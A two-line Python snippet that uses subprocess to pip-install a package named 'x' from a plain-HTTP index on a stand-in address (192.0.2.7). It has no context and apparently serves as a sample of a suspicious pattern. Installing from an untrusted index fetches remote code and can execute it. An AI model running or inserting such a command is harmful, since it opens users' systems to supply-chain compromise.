import subprocess, sys
subprocess.check_call([sys.executable, "-m", "pip", "install", "--index-url", "http://192.0.2.7/simple", "x"])
